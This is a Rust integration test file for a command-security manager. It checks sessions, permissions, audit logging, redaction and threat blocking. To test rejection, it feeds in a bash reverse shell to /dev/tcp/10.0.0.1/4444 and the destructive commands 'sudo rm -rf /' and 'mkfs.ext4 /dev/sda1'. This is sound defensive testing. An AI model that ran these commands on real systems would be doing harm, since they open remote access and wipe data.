//! Integration tests for the Overseer security pipeline
//!
//! Drives `SecurityManager` end to end: sessions, policy rejections, permission checks,
//! threat vetoes and the audit trail they leave behind.

use tempfile::TempDir;

use overseer::security::{
    AuditEventType, AuditQuery, OperationContext, PermissionLevel, RejectionKind, RiskLevel,
    SecurityConfig, SecurityManager, SecurityPaths, ThreatType,
};
use overseer::utils::ManualClock;

fn setup() -> (TempDir, ManualClock, SecurityManager) {
    let dir = TempDir::new().unwrap();
    let clock = ManualClock::starting_now();
    let manager = SecurityManager::with_config(
        SecurityConfig::default(),
        SecurityPaths::in_dir(dir.path()),
        clock.shared(),
    )
    .unwrap();
    (dir, clock, manager)
}

fn login(manager: &SecurityManager, user: &str) -> OperationContext {
    let outcome = manager.create_user_session(user, Some("127.0.0.1"));
    assert!(outcome.success, "{:?}", outcome.error);
    let session = outcome.session.unwrap();
    OperationContext::for_session(user, &session.session_id).with_ip("127.0.0.1")
}

#[test]
fn test_destructive_command_is_rejected_and_audited() {
    let (_dir, _clock, manager) = setup();
    let ctx = login(&manager, "alice");

    let outcome = manager.validate_and_execute_command("sudo rm -rf /", &ctx);

    assert!(!outcome.success);
    assert_eq!(outcome.rejection, Some(RejectionKind::PolicyRejection));
    assert_eq!(outcome.risk_level, RiskLevel::Critical);
    assert!(outcome.error.as_deref().unwrap().contains("blacklisted"));
    assert!(outcome.operation_id.is_none());
    assert!(manager.list_undoable_operations(None, 10).is_empty());

    let violations = manager
        .audit()
        .get_recent_events(1, Some(AuditEventType::SecurityViolation), Some("alice"))
        .unwrap();
    assert_eq!(violations.len(), 1);
    assert_eq!(violations[0].risk_level, RiskLevel::Critical);
    assert!(!violations[0].success);
}

#[test]
fn test_allowed_command_is_audited_with_undo_record() {
    let (_dir, _clock, manager) = setup();
    let ctx = login(&manager, "alice").with_working_dir("/tmp");

    let outcome = manager.validate_and_execute_command("echo   hello", &ctx);
    assert!(outcome.success, "{:?}", outcome.error);
    assert_eq!(outcome.sanitized.as_deref(), Some("echo hello"));
    assert_eq!(outcome.max_output_bytes, Some(1024 * 1024));

    let operation_id = outcome.operation_id.unwrap();
    let executions = manager
        .audit()
        .get_recent_events(1, Some(AuditEventType::CommandExecution), None)
        .unwrap();
    assert_eq!(executions.len(), 1);
    assert!(executions[0].success);
    assert_eq!(executions[0].details.get("operation_id"), Some(&operation_id));

    let undo = manager.undo_operation(&operation_id, &ctx);
    assert!(undo.success);
    assert!(undo.warnings[0].contains("may not be reversible"));
    assert!(manager.list_undoable_operations(Some("alice"), 10).is_empty());
}

#[test]
fn test_read_only_user_cannot_execute() {
    let (_dir, _clock, manager) = setup();
    manager
        .permissions()
        .create_user("viewer", PermissionLevel::ReadOnly)
        .unwrap();
    let ctx = login(&manager, "viewer");

    let outcome = manager.validate_and_execute_command("ls", &ctx);
    assert_eq!(outcome.rejection, Some(RejectionKind::PermissionDenied));
    assert!(outcome.error.unwrap().contains("execute_commands"));
}

#[test]
fn test_session_lifecycle() {
    let (_dir, clock, manager) = setup();
    let ctx = login(&manager, "bob");
    assert_eq!(manager.get_security_status().active_sessions, 1);
    assert_eq!(
        manager.permissions().get_user("bob").unwrap().permission_level,
        PermissionLevel::Standard
    );

    let ended = manager.end_user_session(ctx.session_id.as_deref().unwrap());
    assert!(ended.success);
    let outcome = manager.validate_and_execute_command("ls", &ctx);
    assert_eq!(outcome.rejection, Some(RejectionKind::PermissionDenied));
    assert!(!manager.end_user_session(ctx.session_id.as_deref().unwrap()).success);

    let ctx = login(&manager, "bob");
    clock.advance_secs(3601);
    let outcome = manager.validate_and_execute_command("ls", &ctx);
    assert!(outcome.error.unwrap().contains("expired"));

    let logins = manager
        .audit()
        .get_recent_events(2, Some(AuditEventType::Authentication), Some("bob"))
        .unwrap();
    assert_eq!(logins.len(), 3);
}

#[test]
fn test_deactivated_user_cannot_open_session() {
    let (_dir, _clock, manager) = setup();
    manager.permissions().create_user("carol", PermissionLevel::Standard).unwrap();
    manager.permissions().deactivate_user("carol").unwrap();

    let outcome = manager.create_user_session("carol", None);
    assert!(!outcome.success);
    assert_eq!(outcome.rejection, Some(RejectionKind::PermissionDenied));
    assert!(outcome.session.is_none());
}

#[test]
fn test_reverse_shell_blocks_source_until_unblocked() {
    let (_dir, _clock, manager) = setup();
    let ctx = login(&manager, "eve");

    let outcome = manager.validate_and_execute_command("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", &ctx);
    assert!(!outcome.success);
    assert_eq!(outcome.rejection, Some(RejectionKind::ThreatBlocked));
    assert!(outcome
        .threats
        .iter()
        .any(|t| t.threat_type == ThreatType::NetworkAttack));

    let blocked = manager.validate_network_operation("https://github.com", &ctx);
    assert_eq!(blocked.rejection, Some(RejectionKind::SourceBlocked));

    let status = manager.get_security_status();
    assert_eq!(status.blocked_sources.len(), 1);
    assert_eq!(status.blocked_sources[0].source, "eve");

    let threats = manager
        .audit()
        .get_recent_events(1, Some(AuditEventType::ThreatDetected), None)
        .unwrap();
    assert!(threats.iter().any(|e| e.risk_level == RiskLevel::Critical));

    let denied = manager.unblock_source(&ctx, "eve");
    assert_eq!(denied.rejection, Some(RejectionKind::PermissionDenied));
}

#[test]
fn test_rapid_execution_is_reported_not_blocked() {
    let (_dir, _clock, manager) = setup();
    let ctx = login(&manager, "dave");

    let mut last = None;
    for _ in 0..10 {
        last = Some(manager.validate_and_execute_command("pwd", &ctx));
    }
    let outcome = last.unwrap();
    assert!(outcome.success);
    assert!(outcome
        .threats
        .iter()
        .any(|t| t.threat_type == ThreatType::RapidExecution));
    assert!(outcome.risk_level >= RiskLevel::Medium);
}

#[test]
fn test_network_operation_policy() {
    let (_dir, _clock, manager) = setup();
    let ctx = login(&manager, "frank");

    assert!(manager.validate_network_operation("https://crates.io/crates/serde", &ctx).success);

    let plain = manager.validate_network_operation("http://example.org", &ctx);
    assert_eq!(plain.rejection, Some(RejectionKind::PolicyRejection));
    assert!(plain.error.unwrap().contains("HTTPS"));

    let blocked = manager.validate_network_operation("https://pastebin.com/raw/abc", &ctx);
    assert_eq!(blocked.rejection, Some(RejectionKind::PolicyRejection));

    let failures = manager
        .audit()
        .query(&AuditQuery {
            event_type: Some(AuditEventType::NetworkOperation),
            failures_only: true,
            ..Default::default()
        })
        .unwrap();
    assert_eq!(failures.len(), 2);
}

#[test]
fn test_audit_redacts_sensitive_values() {
    let (_dir, _clock, manager) = setup();
    let ctx = login(&manager, "grace");

    let outcome = manager.validate_and_execute_command("echo password=hunter2", &ctx);
    assert!(outcome.success, "{:?}", outcome.error);

    let raw = std::fs::read_to_string(manager.audit().log_path()).unwrap();
    assert!(!raw.contains("hunter2"));
    assert!(raw.contains("password=[REDACTED]"));
}

#[test]
fn test_security_summary_counts_violations() {
    let (_dir, _clock, manager) = setup();
    let ctx = login(&manager, "heidi");

    manager.validate_and_execute_command("mkfs.ext4 /dev/sda1", &ctx);
    manager.validate_and_execute_command("ls", &ctx);

    let summary = manager.get_security_summary(24).unwrap();
    assert_eq!(summary.audit.security_violations, 1);
    assert!(summary.audit.failed_operations >= 2);
    assert!(summary.audit.unique_users.contains("heidi"));
    assert_eq!(summary.active_sessions, 1);
}
